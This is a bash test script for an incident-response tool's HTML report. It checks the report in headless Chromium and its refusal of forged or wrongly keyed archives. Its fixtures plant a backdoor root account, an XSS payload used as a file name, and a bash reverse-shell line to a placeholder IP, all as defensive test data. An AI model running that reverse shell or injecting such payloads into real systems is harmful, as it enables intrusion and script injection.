#!/bin/bash
# Copyright 2026 csirt-collect developers
# SPDX-License-Identifier: Apache-2.0
#
# report (issue 20): the HTML report of real archives made here (a dead
# box with a uid-0 account, a cron file, a YARA hit and hostile file
# names; a live run with a process under LD_PRELOAD), opened in a real
# headless Chromium driven over the DevTools pipe (tests/tools/cdp.py):
# the planted findings are in the DOM, the hostile name is text, no
# script error, no network request, filter, sort, French, a screenshot
# that is not blank. Must-fail: a forged archive, a wrong key, a missing
# archive, an existing output, an encrypted archive without -i.
. "$(dirname "$0")/lib.sh"

CHROMIUM=$(command -v chromium || command -v chromium-browser || true)
CDP=$CC_TOP/tests/tools/cdp.py
HOSTILE='<img src=x onerror=alert(1)>'
pids=""
at_exit 'kill $pids 2>/dev/null'

# --- A dead box with planted findings ------------------------------------
R=$T/root
make_fixture "$R"
printf 'toor:x:0:0:backdoor:/root:/bin/bash\n' >>"$R/etc/passwd"
printf '* * * * * root /tmp/.y\n' >"$R/etc/cron.d/$HOSTILE"
printf 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1\n' >"$R/tmp/rev.sh"
printf 'x\n' >"$R/tmp/$HOSTILE"
# An indicator (Loki hash file) naming the reverse shell: its sighting
# is shown in the page's indicator table.
mkdir -p "$T/d" "$T/iocs"
IOCMARK=ccreport$$ioc
printf '%s;%s\n' "$(sha256sum "$R/tmp/rev.sh" | cut -c1-64)" "$IOCMARK" >"$T/iocs/hash-iocs.txt"
check_rc "a dead-box run with YARA over /tmp and an indicator exits 0" 0 \
	"$CC_BIN" run --root "$R" --output "$T/d" --scan-path /tmp --iocs "$T/iocs" --quiet
A=$(archive_in "$T/d")
mkdir -p "$T/dx"; zstd -dc "$A" | tar -x -C "$T/dx"
check "ground truth: the archive holds the YARA hit and the hostile cron file" \
	jqe -s 'any(.[]; .rule == "CC_ReverseShell_Bash_DevTcp")' "$T/dx/yara/matches.jsonl"
check "ground truth: persistence lists the hostile name" \
	jqe -s --arg h "$HOSTILE" 'any(.[]; .source | contains($h))' "$T/dx/live/persistence.jsonl"

# The report, under strace: it runs no program.
H=$T/dead.html
tr=""
if command -v strace >/dev/null && strace -f -o /dev/null true 2>/dev/null; then
	tr="env $NOLEAK_ENV strace -f -qq -e trace=execve -o $T/rtrace"
fi
$tr "$CC_BIN" report "$A" -o "$H" 2>"$T/.err"
check "report of the dead-box archive exits 0 and writes the page" \
	test $? -eq 0 -a -s "$H"
if [ -n "$tr" ]; then
	check "under strace, report runs no program (1 execve: itself)" \
	    test "$(grep -c 'execve(' "$T/rtrace")" -eq 1
else
	skip "ptrace not allowed: the execve count of report was not checked"
fi
check "the page has no raw '<img' (archive strings are JSON with \\u003c)" \
	sh -c "! grep -qF '<img' '$H'"
check "the page loads nothing from anywhere (no src=, href= or url( outside data)" \
	sh -c "! grep -qiE '(src|href)=\"(https?:)?//|url\\(' '$H'"
# The embedded data, read back: the hostile name and the uid-0 account.
python3 - "$H" "$HOSTILE" >"$T/data.out" <<'EOF'
import json, re, sys
s = open(sys.argv[1], encoding="utf-8").read()
m = re.search(r'<script type="application/json" id="data">(.*?)</script>', s, re.S)
d = json.loads(m.group(1))
st = d["streams"]
print("hostile", any(sys.argv[2] in r.get("source", "") for r in st["persistence"]["rows"]))
print("toor", any(r.get("name") == "toor" and r.get("uid") == 0 for r in st["users"]["rows"]))
print("yara", any(r.get("rule") == "CC_ReverseShell_Bash_DevTcp" for r in st["yara"]["rows"]))
print("files", any(e[2] == "/tmp/rev.sh" for e in d["files"]["events"]))
print("summary", d["summary"] is not None)
EOF
for k in hostile toor yara files; do
	check "the page's data holds the planted $k" grep -qx "$k True" "$T/data.out"
done
HAS_SUMMARY=0
[ -f "$T/dx/summary.json" ] && HAS_SUMMARY=1
check "the page's data has summary.json exactly when the archive does" \
	grep -qx "summary $([ $HAS_SUMMARY = 1 ] && echo True || echo False)" "$T/data.out"

# Default name beside the archive; never over an existing file.
check_rc "report without -o writes ARCHIVE's name .html beside it" 0 \
	"$CC_BIN" report "$A"
check "  ... ${A%.tar.zst}.html exists" test -s "${A%.tar.zst}.html"
check_rc "report over an existing output without --force exits 2" 2 \
	"$CC_BIN" report "$A"
check "  ... and says to use --force" last_err_has "--force"
check_rc "report --force replaces it" 0 "$CC_BIN" report "$A" --force
mkdir "$T/killed"
killed_part "report" "$T/killed" "$CC_BIN" report "$A" -o "$T/killed/r.html"
check_rc "report --lang de is refused (exit 2)" 2 \
	"$CC_BIN" report "$A" -o "$T/de.html" --lang de

# --- Must-fail ------------------------------------------------------------
mkdir -p "$T/f"
cp "$A" "$A.minisig" "$A.pub" "$T/f/"
F=$T/f/$(basename "$A")
flip_byte "$F" $(( $(stat -c %s "$F") / 2 ))
check_rc "a forged archive (one byte flipped) exits 4" 4 \
	"$CC_BIN" report "$F" -o "$T/f/forged.html"
check "  ... and no page, no .part left" \
	sh -c "! ls '$T/f/' | grep -q html"
"$CC_BIN" keygen -p "$T/other.pub" -s "$T/other.sec" >/dev/null 2>&1 </dev/null
check_rc "a wrong key exits 4" 4 \
	"$CC_BIN" report "$A" -p "$T/other.pub" -o "$T/wrong.html"
check "  ... and no page" test ! -e "$T/wrong.html" -a ! -e "$T/wrong.html.part"
check_rc "a missing archive exits 2" 2 \
	"$CC_BIN" report "$T/nope.tar.zst" -p "$A.pub" -o "$T/nope.html"
check "  ... and no page" test ! -e "$T/nope.html"
if command -v age-keygen >/dev/null; then
	age-keygen -o "$T/id.txt" 2>/dev/null
	mkdir -p "$T/e"
	"$CC_BIN" run --root "$R" --output "$T/e" --no-yara --quiet \
	    --recipient "$(age-keygen -y "$T/id.txt")" >/dev/null 2>&1
	E=$(ls "$T"/e/*.age | head -n 1)
	check_rc "an encrypted archive without -i exits 2" 2 \
		"$CC_BIN" report "$E" -o "$T/e.html"
	check "  ... says to give the identity with -i, and no page" \
		sh -c "grep -q 'encrypted: give its age identity with -i' '$T/.err' && test ! -e '$T/e.html'"
	check_rc "with -i it reports the encrypted archive" 0 \
		"$CC_BIN" report "$E" -i "$T/id.txt" -o "$T/e.html"
	check "  ... and the page shows the planted uid-0 account" grep -q '"toor"' "$T/e.html"
else
	skip "age-keygen missing: the encrypted archive cases did not run"
fi

# --- A live run: a process under LD_PRELOAD ----------------------------
LIB=$(gcc -print-file-name=libc.so.6)
env -i PATH=/usr/bin:/bin LD_PRELOAD="$LIB" sleep 600 & PRE=$!; pids="$pids $PRE"
mkdir -p "$T/l"
"$CC_BIN" run --output "$T/l" -p LinuxCronFiles --no-yara --no-process-dump -q \
	>/dev/null 2>"$T/l.err"
L=$(archive_in "$T/l")
check_rc "report of the live archive exits 0" 0 \
	"$CC_BIN" report "$L" -o "$T/live.html" --lang fr

# --- In Chromium ------------------------------------------------------------
if [ -z "$CHROMIUM" ]; then
	skip "chromium is not installed (packaging/deps.sh installs it): the page was not opened"
	exit 0
fi
# NAME<TAB>JS: each printed with its JSON value by cdp.py.
cat >"$T/dead.checks" <<'EOF'
imgs	document.querySelectorAll("img").length
hostile	[...document.querySelectorAll("#t-persistence td")].some(td => td.textContent.indexOf("<img src=x onerror=alert(1)>") >= 0)
toor	[...document.querySelectorAll("#t-users tbody tr")].some(tr => tr.cells[0].textContent === "toor" && tr.cells[1].textContent === "0")
yara	[...document.querySelectorAll("#t-yara tbody tr")].some(tr => tr.cells[0].textContent === "CC_ReverseShell_Bash_DevTcp")
cron	[...document.querySelectorAll("#t-persistence tbody tr")].some(tr => tr.cells[0].textContent === "/etc/cron.d/evil:1")
summary	document.getElementById("summary-note") ? "absent" : (document.querySelector("#t-findings") ? "table" : "none")
kinds	[...document.querySelectorAll("#t-findings tbody tr")].map(tr => tr.cells[1].textContent).sort().filter((k, i, a) => a.indexOf(k) === i).join(",")
chart	document.querySelectorAll("#timeline-chart rect").length > 0
before	document.querySelectorAll("#t-files tbody tr").length
filter	(function () { var n = document.querySelectorAll("#t-files tbody tr").length, b = document.getElementById("t-files-filter"); b.value = "rev.sh"; b.dispatchEvent(new Event("input")); var r = [...document.querySelectorAll("#t-files tbody tr")]; return r.length > 0 && r.length < n && r.every(tr => tr.cells[2].textContent.indexOf("rev.sh") >= 0); })()
clear	(function () { var b = document.getElementById("t-files-filter"); b.value = ""; b.dispatchEvent(new Event("input")); return document.querySelectorAll("#t-files tbody tr").length; })()
sort	(function () { document.querySelectorAll("#t-files th")[2].click(); var v = [...document.querySelectorAll("#t-files tbody tr")].map(tr => tr.cells[2].textContent); var s = v.slice().sort((a, b) => a.localeCompare(b)); return v.length > 2 && JSON.stringify(v) === JSON.stringify(s) && JSON.stringify(v) !== JSON.stringify(v.slice().reverse()); })()
sortback	(function () { document.querySelectorAll("#t-files th")[2].click(); var v = [...document.querySelectorAll("#t-files tbody tr")].map(tr => tr.cells[2].textContent); return v[0] >= v[v.length - 1]; })()
en	document.querySelector("#findings h2").textContent
fr	(function () { document.getElementById("langbtn").click(); return document.querySelector("#findings h2").textContent + "|" + document.getElementById("title").textContent; })()
EOF
timeout 90 python3 "$CDP" "$CHROMIUM" "$T/prof1" "file://$H" "$T/dead.checks" \
	"$T/dead.png" >"$T/dead.cdp" 2>&1
v() { grep "^$1	" "$2" | cut -f2-; }
check "Chromium: no script error, exception or console error" \
	sh -c "! grep -q '^error' '$T/dead.cdp'"
check "Chromium: no network request (file: only), no failed load" \
	sh -c "! grep -qE '^(request|failed)' '$T/dead.cdp'"
check "Chromium: no <img> element: the hostile name did not become HTML" \
	test "$(v imgs "$T/dead.cdp")" = 0
check "Chromium: the hostile name is shown as text in the persistence table" \
	test "$(v hostile "$T/dead.cdp")" = true
check "Chromium: the uid-0 account toor is in the accounts table" \
	test "$(v toor "$T/dead.cdp")" = true
check "Chromium: the YARA rule that matched is in the YARA table" \
	test "$(v yara "$T/dead.cdp")" = true
check "Chromium: the cron entry is in the persistence table" \
	test "$(v cron "$T/dead.cdp")" = true
check "Chromium: the timeline chart has bars" test "$(v chart "$T/dead.cdp")" = true
if [ $HAS_SUMMARY = 1 ]; then
	want=$(jq -r '[.findings[].kind] | unique | join(",")' "$T/dx/summary.json")
	check "Chromium: the findings table has the kinds of summary.json ($want)" \
		test "$(v kinds "$T/dead.cdp")" = "\"$want\""
else
	check "Chromium: without summary.json the findings section says so" \
		test "$(v summary "$T/dead.cdp")" = '"absent"'
fi
before=$(v before "$T/dead.cdp")
check "Chromium: typing rev.sh in the files filter leaves only its rows (of $before)" \
	test "$(v filter "$T/dead.cdp")" = true
check "Chromium: clearing the filter gives all rows back" \
	test "$(v clear "$T/dead.cdp")" = "$before"
check "Chromium: a click on the path header sorts the rows, a second reverses" \
	test "$(v sort "$T/dead.cdp")" = true -a "$(v sortback "$T/dead.cdp")" = true
check "Chromium: English first, the French switch translates the headings" \
	test "$(v en "$T/dead.cdp")" = '"Findings"' -a \
	    "$(v fr "$T/dead.cdp")" = "\"Constats|Rapport d'incident\""
png=$(grep '^png ' "$T/dead.cdp")
set -- $png
check "Chromium: the screenshot is 1280 wide, tall and not blank ($png)" \
	test "${2:-0}" -eq 1280 -a "${3:-0}" -ge 600 -a "${4:-0}" -ge 20

# The live page (French first): the LD_PRELOAD process in its tree.
cat >"$T/live.checks" <<EOF
fr	document.querySelector("#findings h2").textContent
pre	[...document.querySelectorAll("#t-processes tbody tr")].filter(tr => tr.cells[0].textContent === "$PRE").map(tr => tr.cells[2].textContent + "|" + tr.cells[9].textContent).join()
tree	(function () { var r = [...document.querySelectorAll("#t-processes tbody tr")], i = r.findIndex(tr => tr.cells[0].textContent === "$PRE"), pp = i >= 0 ? r[i].cells[1].textContent : "", j = r.findIndex(tr => tr.cells[0].textContent === pp); return j >= 0 && j < i && parseInt(r[i].cells[2].style.paddingLeft) > parseInt(r[j].cells[2].style.paddingLeft); })()
sev	[...document.querySelectorAll("#t-findings tbody tr")].filter(tr => tr.cells[1].textContent === "ld_preload").map(tr => tr.cells[0].textContent).join()
ldf	[...document.querySelectorAll("#t-findings tbody tr")].some(tr => tr.cells[1].textContent === "ld_preload" && /(^|; )pid: $PRE(;|\$)/.test(tr.cells[4].textContent) && tr.cells[2].textContent.indexOf("pid $PRE") >= 0)
EOF
timeout 90 python3 "$CDP" "$CHROMIUM" "$T/prof2" "file://$T/live.html" "$T/live.checks" \
	"$T/live.png" >"$T/live.cdp" 2>&1
check "Chromium (live page): no error, no request" \
	sh -c "! grep -qE '^(error|request|failed)' '$T/live.cdp'"
check "Chromium (live page): --lang fr opens in French" \
	test "$(v fr "$T/live.cdp")" = '"Constats"'
check "Chromium (live page): the LD_PRELOAD process $PRE is shown with its LD_PRELOAD" \
	test "$(v pre "$T/live.cdp")" = "\"sleep|$LIB\""
check "Chromium (live page): it sits under its parent in the process tree" \
	test "$(v tree "$T/live.cdp")" = true
mkdir -p "$T/lx"; zstd -dc "$L" | tar -x -C "$T/lx"
if [ -f "$T/lx/summary.json" ]; then
	check "ground truth: the live summary.json has an ld_preload finding for $PRE" \
		jqe --argjson p "$PRE" 'any(.findings[]; .kind == "ld_preload" and .detail.pid == $p)' "$T/lx/summary.json"
	check "Chromium (live page): the findings table shows it (French title, pid $PRE)" \
		test "$(v ldf "$T/live.cdp")" = true
	sev=$(jq -r '[.findings[] | select(.kind == "ld_preload") | .severity] |
	    map({high: "élevée", medium: "moyenne", low: "faible"}[.]) | join(",")' "$T/lx/summary.json")
	check "Chromium (live page): its severity is shown in French ($sev)" \
		test "$(v sev "$T/live.cdp")" = "\"$sev\""
else
	skip "the live archive has no summary.json: the ld_preload finding was not checked"
fi

# The second, simpler check: --dump-dom of the dead-box page.
timeout 60 "$CHROMIUM" --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
	--disable-background-networking --disable-component-update --disable-sync \
	--user-data-dir="$T/prof3" --dump-dom "file://$H" >"$T/dom.html" 2>/dev/null
check "dump-dom: the rendered DOM shows the hostile name escaped as text" \
	grep -qF '&lt;img src=x onerror=alert(1)&gt;' "$T/dom.html"
check "dump-dom: ... and never as an element" \
	sh -c "! grep -qiE '<img[ >]' '$T/dom.html'"
python3 - "$T/dom.html" "$IOCMARK" >"$T/iocdom.out" <<'EOF'
import sys
s = open(sys.argv[1], encoding="utf-8", errors="replace").read()
i = s.find('id="t-iocs"')
j = s.find("</table>", i)
rows = s[i:j] if i >= 0 else ""
print("ok" if sys.argv[2] in rows and "hash-iocs.txt:1" in rows and "sha256" in rows else "missing")
EOF
check "dump-dom: the indicator table shows the sighting (id, comment, type)" \
	grep -qx ok "$T/iocdom.out"
